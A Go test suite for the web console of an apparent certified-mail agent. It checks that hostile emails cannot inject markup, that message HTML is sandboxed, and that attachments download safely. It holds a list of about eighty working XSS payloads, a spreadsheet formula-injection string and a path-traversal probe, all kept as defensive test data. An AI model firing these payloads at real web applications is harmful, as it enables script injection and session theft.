package console

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"mime"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"pecagent/rules"
)

// spia stands in every payload: what carries it came from outside.
const spia = "xss7f3a"

// ostili are texts that would run, load, cover or deceive where a page took them for its own. Where something runs, it sets window.xss7f3a.
func ostili() []string {
	list := strings.Split(strings.TrimSpace(`
<script>window.xss7f3a=1</script>
<SCRIPT SRC=//xss7f3a.example/x.js></SCRIPT>
<scr<script>ipt>window.xss7f3a=1</scr</script>ipt>
"><script>window.xss7f3a=1</script>
'><script>window.xss7f3a=1</script>
</title><script>window.xss7f3a=1</script>
</textarea><script>window.xss7f3a=1</script>
</style><script>window.xss7f3a=1</script>
--><script>window.xss7f3a=1</script>
]]><script>window.xss7f3a=1</script>
<img src=x onerror=window.xss7f3a=1>
<img src="x" onerror="window.xss7f3a=1">
<IMG SRC=x OnErRoR=window.xss7f3a=1>
<img/src=x/onerror=window.xss7f3a=1>
<img src=x onerror&#61;window.xss7f3a=1>
<img src="https://xss7f3a.example/pixel.gif">
<img srcset="https://xss7f3a.example/pixel.gif 2x">
<svg onload=window.xss7f3a=1>
<svg/onload=window.xss7f3a=1>
<svg><script>window.xss7f3a=1</script></svg>
<svg><animate onbegin=window.xss7f3a=1 attributeName=x dur=1s>
<svg><a xlink:href="javascript:window.xss7f3a=1"><text>x</text></a></svg>
<svg><use href="https://xss7f3a.example/x.svg#a"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.xss7f3a=1</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=window.xss7f3a=1></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.xss7f3a=1></style></mglyph></table></mtext></math>
<math><maction actiontype="statusline" xlink:href="javascript:window.xss7f3a=1">x</maction></math>
<noscript><p title="</noscript><img src=x onerror=window.xss7f3a=1>">
<body onload=window.xss7f3a=1>
<iframe src="javascript:parent.xss7f3a=1"></iframe>
<iframe srcdoc="<script>parent.xss7f3a=1</script>"></iframe>
<object data="https://xss7f3a.example/x.swf"></object>
<object data="data:text/html,<script>parent.xss7f3a=1</script>"></object>
<embed src="https://xss7f3a.example/x">
<a href="javascript:window.xss7f3a=1">clic</a>
<a href="jAvAsCrIpT:window.xss7f3a=1">clic</a>
<a href="java&#9;script:window.xss7f3a=1">clic</a>
<a href=" &#14; javascript:window.xss7f3a=1">clic</a>
<a href="data:text/html,<script>xss7f3a</script>">clic</a>
<a href="vbscript:xss7f3a">clic</a>
<a href="https://xss7f3a.example/" target=_blank>Accedi alla segreteria</a>
<form action="https://xss7f3a.example/"><input name=password><button>Entra</button></form>
<form action="/ferma" method="post"><button autofocus>xss7f3a</button></form>
<button formaction="https://xss7f3a.example/" form="x">Approva</button>
<input autofocus onfocus=window.xss7f3a=1>
<select onfocus=window.xss7f3a=1 autofocus></select>
<details open ontoggle=window.xss7f3a=1>
<video><source onerror=window.xss7f3a=1></video>
<audio src=x onerror=window.xss7f3a=1></audio>
<marquee onstart=window.xss7f3a=1>x</marquee>
<meta http-equiv="refresh" content="0;url=https://xss7f3a.example/">
<base href="https://xss7f3a.example/">
<link rel="stylesheet" href="https://xss7f3a.example/x.css">
<link rel="prefetch" href="https://xss7f3a.example/">
<style>@import url(https://xss7f3a.example/x.css);</style>
<style>body{background:url(https://xss7f3a.example/x)}</style>
<div style="position:fixed;inset:0;background:url(https://xss7f3a.example/)">xss7f3a</div>
<p style="width:expression(window.xss7f3a=1)">x</p>
<table background="https://xss7f3a.example/x"><tr><td background="javascript:xss7f3a">x</td></tr></table>
<xss7f3a id=xss7f3a class=xss7f3a onclick=window.xss7f3a=1>x</xss7f3a>
<template><img src=x onerror=window.xss7f3a=1></template>
<dialog open>xss7f3a: sessione scaduta</dialog>
<p id="contenuto" name="xss7f3a" accesskey="x" contenteditable popover>x</p>
<!--[if IE]><script>window.xss7f3a=1</script><![endif]-->
<?xml-stylesheet href="javascript:window.xss7f3a=1"?>
<isindex type=image src=x onerror=window.xss7f3a=1>
" onmouseover="window.xss7f3a=1
' onmouseover='window.xss7f3a=1
" autofocus onfocus="window.xss7f3a=1" x="
javascript:window.xss7f3a=1//
{{.Dati}}{{template "xss7f3a"}}${window.xss7f3a=1}
%3Cscript%3Ewindow.xss7f3a=1%3C/script%3E
&lt;script&gt;window.xss7f3a=1&lt;/script&gt;
&#60;script&#62;window.xss7f3a=1&#60;/script&#62;
+ADw-script+AD4-window.xss7f3a=1+ADw-/script+AD4-
=cmd|' /C calc'!xss7f3a`), "\n")
	return append(list, "\u202e<script>window.xss7f3a=1</script>", "xss\u200b7f3a\u2066<b>\u2069", "<scr\x00ipt>window.xss7f3a=1</script>", "\ufeff<svg onload=window.xss7f3a=1>")
}

// grezzo is ordinary mail with a payload in every place where mail has words: names, subject, text, HTML, file names.
func grezzo(n int, bad string, alone bool) []byte {
	var b bytes.Buffer
	word := func(s string) string { return mime.BEncoding.Encode("utf-8", s) }
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	fmt.Fprintf(&b, "From: %s <luca.conti@legalpost.example>\r\nTo: <%s>\r\nSubject: %s\r\nDate: Mon, 23 Nov 2026 09:%02d:00 +0100\r\nMessage-ID: <x%d-%t@legalpost.example>\r\nMIME-Version: 1.0\r\n",
		word(bad), ordine, word("Cambio PEC "+bad), n%60, n, alone)
	if alone {
		fmt.Fprintf(&b, "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n", b64("<html><body><p>Buongiorno</p>"+bad+"<p>Luca Conti CNTLCU88R19A944D</p></body></html>"))
		return b.Bytes()
	}
	text := "chiedo di registrare come domicilio digitale luca.nuovo@pecmail.example\r\n" + bad + "\r\nLuca Conti, CNTLCU88R19A944D\r\n"
	fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n", b64(text))
	fmt.Fprintf(&b, "--m\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=UTF-8''%s\r\nContent-Description: %s\r\n\r\n<script>window.xss7f3a=1</script>\r\n--m--\r\n",
		strings.ReplaceAll(url.QueryEscape(bad+".html"), "+", "%20"), word(bad))
	return b.Bytes()
}

// inerte fails where an element or attribute of a page is not the console's own.
func inerte(t *testing.T, what, page string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	must(t, err)
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if strings.Contains(n.Data, spia) {
			t.Errorf("%s: element %s", what, n.Data)
		}
		attr := map[string]string{}
		for _, a := range n.Attr {
			attr[a.Key] = a.Val
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "srcset", a.Key == "background", strings.Contains(a.Key, spia), a.Key == "accesskey", a.Key == "contenteditable", a.Key == "popover", a.Key == "http-equiv":
				t.Errorf("%s: <%s %s=%q>", what, n.Data, a.Key, a.Val)
			case slices.Contains([]string{"src", "href", "action", "formaction", "data", "xlink:href"}, a.Key) && !nostro(a.Val):
				t.Errorf("%s: <%s %s=%q>", what, n.Data, a.Key, a.Val)
			case strings.Contains(a.Val, spia) && !slices.Contains([]string{"value", "href", "title", "aria-label", "content", "data-testo"}, a.Key):
				t.Errorf("%s: <%s %s=%q>", what, n.Data, a.Key, a.Val)
			}
		}
		switch n.Data {
		case "script":
			if !strings.HasPrefix(attr["src"], "/static/") || n.FirstChild != nil {
				t.Errorf("%s: a script of its own", what)
			}
		case "iframe":
			if _, sandboxed := attr["sandbox"]; !sandboxed || attr["sandbox"] != "" || !strings.HasPrefix(attr["src"], "/messaggio/") {
				t.Errorf("%s: frame %v", what, n.Attr)
			}
		case "object", "embed", "base", "math", "template", "marquee", "audio", "video", "foreignobject", "style", "img", "dialog":
			t.Errorf("%s: <%s>", what, n.Data)
		}
	}
}

// nostro is an address of the console itself.
func nostro(to string) bool {
	u, err := url.Parse(to)
	return err == nil && u.Scheme == "" && u.Host == "" && (to == "" || to[0] == '/' || to[0] == '#' || to[0] == '?') && !strings.HasPrefix(to, "//")
}

// indirizzi are addresses of every page that shows what came from mail, for what lies on the desk.
func (b *banco) indirizzi(sha string) []string {
	all := []string{"/", "/?q=" + url.QueryEscape(spia), "/iscritti?q=" + spia, "/iscritto/CNTLCU88R19A944D", "/comunicazioni", "/scadenze", "/prove?q=" + spia, "/prove/accessi", "/quadro", "/registro", "/sistema",
		"/messaggio/" + sha, "/messaggio/" + sha + "?come=html"}
	must(b.t, b.env.Store.View(func(a rules.Archivio) error {
		for _, id := range rules.Vista(a).Cerca(rules.CompitiVivi, "") {
			if c, ok := rules.Vista(a).Compito(id); ok && c.Messaggio == sha {
				all = append(all, "/pratica/"+id)
			}
		}
		return nil
	}))
	return all
}

// TestPostaOstile: every payload in every place of a message, seen through every page that shows mail, makes no element and no attribute.
func TestPostaOstile(t *testing.T) {
	if n := len(ostili()); n < 60 {
		t.Fatalf("only %d payloads", n)
	}
	b := nuovoBanco(t, rules.Proponi)
	b.env.Policy.Persone[0].Ruoli = rules.Ruoli()
	b.siede("m.neri")
	seen := map[string]bool{}
	for i, bad := range ostili() {
		for _, alone := range []bool{false, true} {
			raw := grezzo(i, bad, alone)
			b.arriva(raw)
			sha := impronta(raw)
			pages := b.indirizzi(sha)
			if i%12 != 0 || alone { // the pages of lists are the same but for what is new
				pages = slices.DeleteFunc(pages, func(p string) bool { return !strings.Contains(p, sha) && !strings.HasPrefix(p, "/pratica/") })
			}
			for _, target := range pages {
				page := b.legge(target)
				inerte(t, fmt.Sprintf("%s, payload %d %q", target, i, bad), page)
				kind, _, _ := strings.Cut(strings.TrimPrefix(target, "/"), "/")
				seen[kind] = seen[kind] || strings.Contains(page, spia)
			}
			if alone {
				b.incornice(sha, bad)
			} else {
				b.allegatoInerte(sha, bad)
			}
		}
	}
	for _, where := range []string{"messaggio", "pratica"} {
		if !seen[where] {
			t.Errorf("no payload was ever seen on /%s/", where)
		}
	}
}

// incornice looks at the HTML of a message in its frame.
func (b *banco) incornice(sha, bad string) {
	t := b.t.(*testing.T)
	res := b.chiede("GET", "/messaggio/"+sha+"/html", nil)
	if got := res.Header.Get("Content-Security-Policy"); got != "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; frame-ancestors 'self'" || res.StatusCode != 200 {
		t.Errorf("%q: %s, CSP %q", bad, res.Status, got)
	}
	page := corpo(t, res)
	_, page, _ = strings.Cut(page, "<body>") // the frame's own style stands before
	inerte(t, "the frame of "+bad, page)
	root, err := html.Parse(strings.NewReader(page))
	must(t, err)
	for n := range root.Descendants() {
		if n.Type == html.ElementNode && (len(n.Attr) > 0 || slices.Contains([]string{"a", "form", "input", "button", "svg", "link", "meta", "script", "iframe"}, n.Data)) {
			t.Errorf("%q: <%s %v> in the frame", bad, n.Data, n.Attr)
		}
	}
	if strings.ContainsAny(page, "\u202e\u200b\u2066\x00") {
		t.Errorf("%q: marks that nobody sees in the frame", bad)
	}
}

// allegatoInerte: a browser keeps an attachment, under a name without tricks, and never opens it.
func (b *banco) allegatoInerte(sha, bad string) {
	t := b.t.(*testing.T)
	for _, target := range []string{"/messaggio/" + sha + "/allegato/0", "/messaggio/" + sha + "/eml"} {
		res := b.chiede("GET", target, nil)
		h := res.Header
		kind, params, err := mime.ParseMediaType(h.Get("Content-Disposition"))
		if err != nil || kind != "attachment" || params["filename"] == "" || strings.ContainsAny(params["filename"], "/\\:<>\"'\u202e\u200b\x00") || strings.HasPrefix(params["filename"], ".") {
			t.Errorf("%q: %q is named %v %v", bad, h.Get("Content-Disposition"), params, err)
		}
		if res.StatusCode != http.StatusOK || h.Get("Content-Type") != "application/octet-stream" || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Content-Security-Policy") != "sandbox; default-src 'none'" {
			t.Errorf("%q: %s %v", bad, res.Status, h)
		}
	}
}

// TestMessaggioNonTrovato: an address that names no message, or no part of one, is not there; each view is an event before.
func TestMessaggioNonTrovato(t *testing.T) {
	b := nuovoBanco(t, rules.Proponi)
	raw := grezzo(1, "x", false)
	b.arriva(raw)
	sha := impronta(raw)
	for _, target := range []string{"/messaggio/x", "/messaggio/" + strings.ToUpper(sha), "/messaggio/" + strings.Repeat("0", 64), "/messaggio/" + sha[:12], "/messaggio/" + sha + "/html", "/messaggio/" + sha + "/allegato/1",
		"/messaggio/" + sha + "/allegato/-1", "/messaggio/" + sha + "/allegato/a", "/messaggio/" + strings.Repeat("0", 64) + "/eml", "/messaggio/..%2f..%2fchiavi%2flog.key/eml"} {
		if res := b.chiede("GET", target, nil); res.StatusCode != http.StatusNotFound {
			t.Errorf("%s: %s", target, res.Status)
		}
	}
	b.legge("/messaggio/" + sha)
	b.chiede("GET", "/messaggio/"+sha+"/allegato/0", nil)
	b.chiede("GET", "/messaggio/"+sha+"/eml", nil)
	said := b.comando("evidence", "accesses", "--id", sha)
	contiene(t, "the log", said, "messaggio", "messaggio allegato", "messaggio eml")
}

func impronta(raw []byte) string {
	sum := sha256.Sum256(raw)
	return hex.EncodeToString(sum[:])
}
